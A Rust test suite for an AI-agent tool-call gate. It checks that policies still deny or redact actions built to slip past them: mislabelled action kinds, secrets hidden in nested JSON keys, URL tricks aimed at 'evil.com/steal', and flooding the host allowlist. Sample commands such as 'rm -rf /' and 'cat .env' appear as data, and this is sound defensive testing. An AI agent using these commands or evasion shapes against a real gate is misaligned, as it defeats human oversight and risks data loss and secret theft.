//! Ways around the guard that must stay closed. Each case is an action and what it must get under a small policy.

use crate::support::{Folder, lines, text};
use proctor_core::json::Json;

/// Answers of the gate under a policy, one for each line.
fn answers(policy: &str, actions: &[String]) -> Vec<Json> {
    let folder = Folder::with_policy(policy);
    let input: String = actions.iter().map(|action| format!("{action}\n")).collect();
    let found = lines(&folder.run_with(&["gate"], &input));
    assert_eq!(found.len(), actions.len());
    let (report, _) = folder.verify(None);
    assert_eq!(report.pointer("/derivation/different").unwrap().as_u64(), Some(0), "{report}");
    assert_eq!(report.pointer("/derivation/undecidable").unwrap().as_u64(), Some(0), "{report}");
    found
}

fn all_get(expected: &str, policy: &str, actions: &[&str]) {
    let actions: Vec<String> = actions.iter().map(|action| (*action).to_owned()).collect();
    for (action, answer) in actions.iter().zip(answers(policy, &actions)) {
        assert_eq!(text(&answer, "decision"), expected, "{action}: {answer}");
    }
}

const ALLOW: &str = "version: \"1\"\ndefault: allow\n";

fn key() -> String {
    format!("sk-{}", "1234567890abcdefghij")
}

#[test]
fn a_secret_is_cut_wherever_it_stands() {
    let key = key();
    let deep = format!("{}{{\"k\":\"{key}\"}}{}", "{\"a\":".repeat(70), "}".repeat(70));
    let many: Vec<String> = (0..1500).map(|_| format!("\"{key}\"")).collect();
    let actions = [
        format!(r#"{{"tool":"t","args":{{"a\nb":"{key}"}}}}"#),
        format!(r#"{{"tool":"t","args":{{"a":{deep}}}}}"#),
        format!(r#"{{"tool":"t","args":{{"{}":"{key}"}}}}"#, "n".repeat(1100)),
        format!(r#"{{"tool":"t","args":{{"list":[{}]}}}}"#, many.join(",")),
        format!(r#"{{"tool":"t","args":{{"{key}":"{key}"}}}}"#),
        format!(r#"{{"tool":"t","args":{{"m":{{"{key}":{{"deep":"{key}"}}}}}}}}"#),
        format!(r#"{{"tool":"t","args":{{"x":"a {key} b","y":["{key}"]}},"text":"{key}"}}"#),
    ];
    for (action, answer) in actions.iter().zip(answers(ALLOW, &actions)) {
        let shown: String = action.chars().take(120).collect();
        assert_eq!(text(&answer, "decision"), "redact", "{shown}");
        assert!(!answer.to_string().contains(&key), "the answer to {shown} holds the secret");
        assert!(answer.get("args").is_some(), "{shown}");
    }
}

#[test]
fn nothing_that_a_caller_says_brings_a_secret_into_the_ledger() {
    let key = key();
    let folder = Folder::with_approver("version: \"1\"\ndefault: ask\n");
    let input = format!(
        "{{\"tool\":\"t\",\"agent\":\"{key}\",\"session\":\"{key}\"}}\n{{\"observation\":{{\"code\":\"{key}\",\"data\":{{\"{key}\":1}}}},\"agent\":\"{key}\"}}\n"
    );
    let answer = lines(&folder.run_with(&["gate"], &input));
    let approval = text(&answer[0], "approval_id");
    let refused = folder.run(&["approve", "allow", approval, "--reason", &format!("token {key}")]);
    assert_eq!(refused.status.code(), Some(1), "{}", String::from_utf8_lossy(&refused.stderr));
    let stored = std::fs::read(folder.state().join("ledger.db")).unwrap();
    assert!(!String::from_utf8_lossy(&stored).contains("1234567890abcdefghij"));
}

#[test]
fn a_claimed_kind_switches_nothing_off() {
    let network = "version: \"1\"\ndefault: deny\nnetwork: { allowlist: [api.ok.com] }\ncapabilities: { allow: [file_read, network_outbound], deny: [terminal_exec] }\n";
    all_get(
        "deny",
        network,
        &[
            r#"{"kind":"network_call","tool":"bash","host":"api.ok.com","args":{"command":"rm -rf /"}}"#,
            r#"{"kind":"network_call","host":"api.ok.com","command":"rm -rf /"}"#,
            r#"{"kind":"file_operation","operation":"read","tool":"bash","path":"/tmp/x","args":{"command":"rm -rf /"}}"#,
            r#"{"kind":"file_operation","operation":"read","tool":"file_delete","path":"/etc/passwd"}"#,
        ],
    );
    let tools = "version: \"1\"\ndefault: allow\ntools: { bash: { allow: false }, file_delete: { allow: false } }\ncapabilities: { deny: [terminal_exec, file_write] }\n";
    all_get(
        "deny",
        tools,
        &[
            r#"{"kind":"prompt","tool":"bash","args":{"command":"ls"}}"#,
            r#"{"kind":"prompt","tool":"file_delete","path":"/x"}"#,
            r#"{"kind":"custom","tool":"write_file","args":{"path":"/x"}}"#,
            r#"{"kind":"custom","tool":"run","command":"ls"}"#,
            r#"{"kind":"custom","command":"ls"}"#,
            r#"{"kind":"llm_call","tool":"helper","command":"rm -rf /"}"#,
        ],
    );
    all_get(
        "deny",
        "version: \"1\"\ndefault: allow\ntools: { shell: { allow: false } }\n",
        &[
            r#"{"kind":"process_exec","tool":"ls","command":"rm -rf /"}"#,
            r#"{"tool":"bash ","args":{"command":"ls"}}"#,
            r#"{"tool":"helper","args":{"cmd":"ls"}}"#,
        ],
    );
    let balanced = include_str!("../../../../schemas/examples/balanced.yaml");
    all_get(
        "ask",
        balanced,
        &[
            r#"{"kind":"prompt","tool":"send_email"}"#,
            r#"{"kind":"network_call","tool":"send_email","host":"localhost"}"#,
        ],
    );
}

#[test]
fn a_name_is_not_hidden_by_what_looks_like_a_key_in_it() {
    let policy = r#"
version: "1"
default: allow
data: { credential_action: alert_only }
tools: { task-runner: { allow: false } }
rules:
  - { id: env, when: 'action.paths.exists(p, p.endsWith("/.env"))', then: deny }
  - { id: host, when: 'action.hosts.exists(h, h.endsWith("evil.com"))', then: deny }
  - { id: rm, when: 'action.commands.exists(c, c.startsWith("rm "))', then: deny }
"#;
    let key = key();
    all_get(
        "deny",
        policy,
        &[
            r#"{"tool":"task-runner"}"#,
            r#"{"tool":"bash","args":{"command":"cat /w/task-app/.env"}}"#,
            r#"{"tool":"bash","args":{"command":"cat .env"},"cwd":"/w/risk-model"}"#,
            r#"{"tool":"fetch","args":{"url":"https://task-1.evil.com/"}}"#,
            &format!(r#"{{"tool":"bash","args":{{"command":"cat /w/{key}/.env"}}}}"#),
            &format!(r#"{{"tool":"fetch","args":{{"url":"https://{key}.evil.com/"}}}}"#),
            &format!(r#"{{"tool":"bash","args":{{"command":"rm {key}"}}}}"#),
        ],
    );
    let ordinary =
        answers(ALLOW, &[r#"{"tool":"read","args":{"path":"/w/risk-model/task-list.md"}}"#.to_owned()]);
    assert_eq!(text(&ordinary[0], "decision"), "allow", "{}", ordinary[0]);
}

#[test]
fn the_network_allowlist_sees_every_host() {
    let policy = "version: \"1\"\ndefault: allow\nnetwork: { allowlist: [api.ok.com, \"*.ok.com\"] }\n";
    let urls: Vec<String> = (0..1100).map(|index| format!("\"https://h{index}.ok.com/\"")).collect();
    let flood = format!(r#"{{"tool":"x","args":{{"urls":[{},"https://evil.com/"]}}}}"#, urls.join(","));
    all_get(
        "deny",
        policy,
        &[
            r#"{"kind":"network_call","host":"api.ok.com","url":"evil.com/steal"}"#,
            r#"{"tool":"fetch","args":{"url":"evil.com/steal"}}"#,
            r#"{"tool":"fetch","args":{"url":"//evil.com/steal"}}"#,
            r#"{"tool":"x","args":{"host":"evil.com"}}"#,
            r#"{"tool":"fetch","args":{"note":"see http://evil.com now"}}"#,
            r#"{"kind":"network_call","host":"api.ok.com/@evil.com"}"#,
            r#"{"kind":"network_call","host":"api.ok.com#evil.com"}"#,
            &flood,
        ],
    );
    all_get(
        "allow",
        policy,
        &[
            r#"{"kind":"network_call","host":"api.ok.com"}"#,
            r#"{"tool":"fetch","args":{"url":"https://x.ok.com/a"}}"#,
        ],
    );
}

#[test]
fn scopes_and_capabilities_know_every_name_of_a_tool() {
    let scoped = "version: \"1\"\nscope: tool:bash\ndefault: deny\n";
    let folder = Folder::with_policy("x");
    std::fs::create_dir_all(folder.path("policies")).unwrap();
    folder.write("policies/a.yaml", ALLOW);
    folder.write("policies/b.yaml", scoped);
    for action in [r#"{"tool":"sh"}"#, r#"{"tool":"terminal"}"#, r#"{"kind":"process_exec","command":"ls"}"#]
    {
        let output = folder.run(&["policy", "check", "--policy", "policies", action]);
        assert_eq!(output.status.code(), Some(11), "{action}");
    }
    let other = folder.run(&["policy", "check", "--policy", "policies", r#"{"tool":"x"}"#]);
    assert_eq!(other.status.code(), Some(0));
    let named = "version: \"1\"\ndefault: allow\ncapabilities: { deny: [\"mcp_tool:bash\", \"mcp_tool:file_write\"] }\n";
    all_get("deny", named, &[r#"{"tool":"sh"}"#, r#"{"tool":"write_file"}"#]);
}

#[test]
fn a_document_for_others_weakens_nobody() {
    let folder = Folder::with_policy("x");
    folder.write("policies/a.yaml", ALLOW);
    folder.write(
        "policies/b.yaml",
        "version: \"1\"\nscope: team:lab\ndata: { credential_action: alert_only }\n",
    );
    let action = format!(r#"{{"tool":"t","args":{{"k":"{}"}}}}"#, key());
    let mine = lines(&folder.run(&["policy", "check", "--policy", "policies", "--json", &action]));
    assert_eq!(text(&mine[0], "decision"), "redact");
    let theirs =
        lines(&folder.run(&["policy", "check", "--policy", "policies", "--team", "lab", "--json", &action]));
    assert_eq!(text(&theirs[0], "decision"), "allow");
}

#[test]
fn every_ask_keeps_its_approvers() {
    let policy = r#"
version: "1"
default: deny
tools: { pay: { allow: true, requires_approval_if: tool == "pay" } }
rules:
  - { id: anyone, when: 'action.tool == "pay"', then: ask }
  - { id: big, when: 'action.tool == "pay"', then: ask, approvers: [cfo], expires: 60s }
  - { id: two, when: 'action.tool == "both"', then: ask, approvers: [cfo] }
  - { id: three, when: 'action.tool == "both"', then: ask, approvers: [ciso] }
"#;
    let folder = Folder::with_approver(policy);
    let asked = lines(&folder.run_with(&["gate"], "{\"tool\":\"pay\"}\n{\"tool\":\"both\"}\n"));
    assert_eq!(asked[0].get("approvers").unwrap().to_string(), "[\"cfo\"]", "{}", asked[0]);
    assert_eq!(text(&asked[1], "decision"), "deny", "nobody can approve for both: {}", asked[1]);
    let id = text(&asked[0], "approval_id");
    assert_eq!(folder.run(&["approve", "allow", id]).status.code(), Some(1), "ann is not the cfo");
    // Erasing the record that names them does not open it to others.
    let sequence = asked[0].get("seq").unwrap().to_string();
    assert!(folder.run(&["audit", "erase", &sequence, "--reason", "test"]).status.success());
    assert_eq!(folder.run(&["approve", "allow", id]).status.code(), Some(1));
}

#[test]
fn long_names_share_their_limits() {
    let policy = "version: \"1\"\ndefault: deny\ntools: { \"*\": { allow: true, limit_per_hour: 1 } }\n";
    let name = format!("{}*", "ab ".repeat(100));
    let action = format!(r#"{{"tool":"{name}"}}"#);
    let found = answers(policy, &[action.clone(), action.clone(), action]);
    let decisions: Vec<&str> = found.iter().map(|answer| text(answer, "decision")).collect();
    assert_eq!(decisions, ["allow", "deny", "deny"]);
}

#[test]
fn a_change_that_cannot_be_made_denies() {
    let policy = r#"
version: "1"
default: allow
rules:
  - { id: cut, when: 'action.tool == "t"', then: redact, paths: ["$.args.opts"] }
  - { id: dry, when: 'action.tool == "t"', then: modify, set: { /args/opts/dry_run: true } }
"#;
    all_get("deny", policy, &[r#"{"tool":"t","args":{"opts":{"x":1}}}"#]);
    let mail = "version: \"1\"\ndefault: allow\nrules:\n  - { id: mail, when: '\"EmailAddress\" in action.findings', then: redact }\n";
    all_get("redact", mail, &[r#"{"tool":"t","args":{"to":"ann@example.com"}}"#]);
}

#[test]
fn the_door_is_not_a_claim() {
    let policy = "version: \"1\"\ndefault: allow\nrules:\n  - { id: gate, when: 'action.door == \"gate\"', then: deny }\n";
    let folder = Folder::with_policy(policy);
    let found = lines(&folder.run_with(&["gate"], "{\"tool\":\"x\",\"door\":\"ahp\"}\n{\"tool\":\"x\"}\n"));
    assert_eq!((text(&found[0], "rule"), text(&found[1], "rule")), ("malformed", "gate"));
}

#[test]
fn a_repeated_outcome_does_not_make_a_session_forget() {
    let policy = r#"
version: "1"
default: deny
rules:
  - { id: read, when: 'action.tool == "read_customer"', then: allow, taint: customer }
  - { id: up, when: 'action.tool == "upload" && session.tainted("customer")', then: deny }
  - { id: other, when: 'action.tool == "upload"', then: allow }
"#;
    let folder = Folder::with_policy(policy);
    let first = lines(&folder.run_with(&["gate"], "{\"tool\":\"upload\",\"session\":\"first\"}\n"));
    let id = text(&first[0], "decision_id").to_owned();
    let mut input = format!("{{\"outcome\":{{\"decision_id\":\"{id}\"}}}}\n");
    for index in 0..300 {
        input.push_str(&format!("{{\"tool\":\"read_customer\",\"session\":\"s{index}\"}}\n"));
        input.push_str(&format!("{{\"outcome\":{{\"decision_id\":\"{id}\"}}}}\n"));
        input.push_str(&format!("{{\"tool\":\"upload\",\"session\":\"s{index}\"}}\n"));
    }
    let found = lines(&folder.run_with(&["gate"], &input));
    let uploads =
        found.iter().filter(|answer| matches!(text(answer, "rule"), "up" | "other")).collect::<Vec<_>>();
    assert_eq!(uploads.len(), 300);
    assert!(uploads.iter().all(|answer| text(answer, "decision") == "deny"));
    let fsck = folder.run(&["audit", "fsck"]);
    assert!(fsck.status.success(), "{}", String::from_utf8_lossy(&fsck.stdout));
}

#[test]
fn what_was_spent_is_billed_with_the_outcome() {
    let folder = Folder::with_policy("version: \"1\"\ndefault: allow\n");
    let asks: String = (0..150).map(|_| "{\"tool\":\"x\"}\n").collect();
    let answers = lines(&folder.run_with(&["gate"], &asks));
    let reports: String = answers
        .iter()
        .flat_map(|answer| {
            let id = text(answer, "decision_id");
            // Each is told twice, at once.
            [
                format!("{{\"outcome\":{{\"decision_id\":\"{id}\",\"cost_usd\":\"5\"}}}}\n"),
                format!("{{\"outcome\":{{\"decision_id\":\"{id}\"}}}}\n"),
            ]
        })
        .collect();
    folder.run_with(&["gate"], &reports);
    let settled = folder.json(&["audit", "tail", "--json", "--kind", "settlement", "-n", "1000"]);
    assert_eq!(settled.len(), 150);
}

#[test]
fn a_document_that_cannot_be_read_is_not_left_out() {
    let folder = Folder::with_policy("x");
    folder.write("policies/a.yaml", ALLOW);
    folder.write("elsewhere.yaml", "version: \"1\"\ndefault: deny\n");
    std::os::unix::fs::symlink(folder.path("elsewhere.yaml"), folder.path("policies/b.yaml")).unwrap();
    let check = || folder.run(&["policy", "check", "--policy", "policies", r#"{"tool":"x"}"#]);
    assert_eq!(check().status.code(), Some(11));
    std::fs::remove_file(folder.path("elsewhere.yaml")).unwrap();
    assert_eq!(check().status.code(), Some(1), "{:?}", check());
}

#[test]
fn a_grant_counts_only_from_those_who_may_give_it_now() {
    let open = "version: \"1\"\ndefault: deny\nrules:\n  - { id: pay, when: 'action.tool == \"pay\"', then: ask, expires: 1h }\n";
    let closed = open.replace("expires: 1h", "expires: 1h, approvers: [boss]");
    let folder = Folder::with_approver(open);
    let asked = lines(&folder.run_with(&["gate"], "{\"tool\":\"pay\"}\n"));
    folder.write("policy.yaml", &closed);
    assert!(folder.run(&["approve", "allow", text(&asked[0], "approval_id")]).status.success());
    let found = lines(&folder.run_with(&["gate"], "{\"tool\":\"pay\"}\n"));
    assert_eq!(text(&found[0], "decision"), "deny", "{}", found[0]);
}

#[test]
fn keys_that_others_can_read_are_refused() {
    use std::os::unix::fs::PermissionsExt;
    let folder = Folder::with_policy(ALLOW);
    assert!(folder.run_with(&["gate"], "{\"tool\":\"x\"}\n").status.success());
    let set = |path: std::path::PathBuf, mode| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    for (path, bad, good) in [
        (folder.state().join("ledger.key"), 0o644, 0o600),
        (folder.state().join("digest.key"), 0o640, 0o600),
        (folder.state(), 0o777, 0o700),
    ] {
        set(path.clone(), bad);
        let refused = folder.run_with(&["gate"], "{\"tool\":\"x\"}\n");
        assert_eq!(refused.status.code(), Some(1), "{}", path.display());
        assert!(String::from_utf8_lossy(&refused.stderr).contains("chmod"));
        set(path, good);
    }
    assert!(folder.run_with(&["gate"], "{\"tool\":\"x\"}\n").status.success());
}

#[test]
fn a_lock_that_is_a_link_writes_into_nobodys_file() {
    let folder = Folder::with_policy(ALLOW);
    std::fs::create_dir_all(folder.state()).unwrap();
    folder.write("precious", "do not touch");
    std::os::unix::fs::symlink(folder.path("precious"), folder.state().join("owner.lock")).unwrap();
    assert_eq!(folder.run_with(&["gate"], "{\"tool\":\"x\"}\n").status.code(), Some(1));
    assert_eq!(std::fs::read_to_string(folder.path("precious")).unwrap(), "do not touch");
}

#[test]
fn a_half_made_state_directory_heals() {
    let folder = Folder::with_policy(ALLOW);
    assert!(folder.run_with(&["gate"], "{\"tool\":\"x\"}\n").status.success());
    let half = Folder::with_policy(ALLOW);
    std::fs::create_dir_all(half.state()).unwrap();
    std::fs::copy(folder.state().join("digest.key"), half.state().join("digest.key")).unwrap();
    assert!(half.run_with(&["gate"], "{\"tool\":\"x\"}\n").status.success());
    let many = Folder::with_policy(ALLOW);
    std::thread::scope(|scope| {
        let runs: Vec<_> =
            (0..16).map(|_| scope.spawn(|| many.run_with(&["gate"], "{\"tool\":\"x\"}\n"))).collect();
        for run in runs {
            let output = run.join().unwrap();
            assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        }
    });
}

#[test]
fn a_witness_without_memory_signs_nothing() {
    let folder = Folder::with_policy(ALLOW);
    assert!(folder.run_with(&["gate"], "{\"tool\":\"x\"}\n").status.success());
    let witness = || folder.run(&["audit", "witness", "--witness", "../w"]);
    assert!(witness().status.success());
    let seen = folder.path("../w/seen");
    let memory = std::fs::read(&seen).unwrap();
    std::fs::write(&seen, [memory.as_slice(), b"\xff"].concat()).unwrap();
    assert_ne!(witness().status.code(), Some(0));
    std::fs::remove_file(&seen).unwrap();
    assert_ne!(witness().status.code(), Some(0));
    std::fs::write(&seen, memory).unwrap();
    assert!(witness().status.success());
}

#[test]
fn a_few_large_lines_do_not_fill_memory() {
    use std::io::Write;
    let folder = Folder::with_policy(ALLOW);
    let mut gate = crate::support::Gate::start(&folder, &[]);
    let line = format!("{{\"tool\":\"x\",\"args\":{{\"t\":\"{}\"}}}}\n", "x ".repeat(1_500_000));
    let mut stdin = gate.stdin;
    let (sent, count) = std::sync::mpsc::sync_channel(100);
    let writer = std::thread::spawn(move || {
        for _ in 0..20 {
            if stdin.write_all(line.as_bytes()).is_err() {
                return;
            }
            let _ = sent.send(());
        }
    });
    // Nobody reads the answers: a few lines are taken, and then no more.
    let mut taken = 0;
    while count.recv_timeout(std::time::Duration::from_secs(3)).is_ok() {
        taken += 1;
    }
    let status = std::fs::read_to_string(format!("/proc/{}/status", gate.child.id())).unwrap();
    let memory: u64 = status
        .lines()
        .find(|line| line.starts_with("VmHWM"))
        .unwrap()
        .split_whitespace()
        .nth(1)
        .unwrap()
        .parse()
        .unwrap();
    println!("{taken} lines of 3 MB taken with {} MiB", memory >> 10);
    gate.child.kill().unwrap();
    gate.child.wait().unwrap();
    writer.join().unwrap();
    assert!(memory < 700 << 10, "{memory} KiB");
}

#[test]
fn a_relay_does_not_wait_for_an_owner_that_hangs() {
    let folder = Folder::with_policy(ALLOW);
    let mut owner = crate::support::Gate::start(&folder, &[]);
    owner.ask(r#"{"tool":"x"}"#);
    let mut relay = crate::support::Gate::start(&folder, &["--answer-ms", "500"]);
    assert_eq!(text(&relay.ask(r#"{"tool":"x"}"#), "decision"), "allow");
    let pid = rustix::process::Pid::from_raw(owner.child.id().cast_signed()).unwrap();
    crate::support::stop_process(pid);
    let answer = relay.ask(r#"{"ref":7,"tool":"x"}"#);
    assert_eq!((text(&answer, "decision"), text(&answer, "rule")), ("deny", "not-recorded"), "{answer}");
    assert_eq!(answer.get("ref"), Some(&Json::from(7u8)));
    owner.child.kill().unwrap();
    owner.child.wait().unwrap();
    // With the owner gone for good, the relay takes over.
    assert_eq!(text(&relay.ask(r#"{"tool":"x"}"#), "decision"), "allow");
    relay.end();
}
